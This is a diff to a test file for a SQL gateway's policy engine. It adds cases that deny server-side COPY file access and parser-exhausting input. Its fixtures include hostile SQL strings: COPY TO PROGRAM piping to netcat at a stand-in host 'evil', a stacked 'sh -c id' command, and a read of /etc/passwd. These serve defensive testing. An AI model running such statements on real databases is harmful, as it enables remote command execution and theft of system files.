@@ -37,6 +37,10 @@ describe('gateway/policy/policy-engine', () => {
       ['', 'allow', null],
       ["COPY orders TO PROGRAM 'nc evil 9'", 'deny', 'gapwatch:deny-copy-program'],
       ["SELECT 1; copy orders from program 'sh -c id'", 'deny', 'gapwatch:deny-copy-program'],
+      ["COPY orders FROM '/etc/passwd'", 'deny', 'gapwatch:deny-copy-server-file'],
+      ["COPY (SELECT 1) TO '/tmp/x'", 'deny', 'gapwatch:deny-copy-server-file'],
+      ['COPY orders TO STDOUT', 'allow', null],
+      ['COPY orders FROM STDIN', 'allow', null],
       ['GRANT ALL ON orders TO PUBLIC', 'deny', 'gapwatch:deny-dcl'],
       ['SET ROLE postgres', 'deny', 'gapwatch:deny-dcl'],
       ["CREATE ROLE x SUPERUSER LOGIN PASSWORD 'p'", 'deny', 'gapwatch:deny-dcl'],
@@ -65,6 +69,13 @@ describe('gateway/policy/policy-engine', () => {
         assert.deepEqual(summary(await engine.evaluate(request(sql))), [action, rule]);
       });
     }
+
+    it('denies input too deep or too large to parse, and keeps working afterwards', async () => {
+      for (const sql of [`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`, `SELECT ${Array(20_000).fill('a').join(' + ')}`]) {
+        assert.deepEqual(summary(await engine.evaluate(request(sql))), ['deny', EngineRule.Unparseable]);
+      }
+      assert.deepEqual(summary(await engine.evaluate(request('SELECT 1'))), ['allow', null]);
+    });
 
     it('explains an unparseable statement to the client', async () => {
       const decision = await engine.evaluate(request('DELETE FROM'));
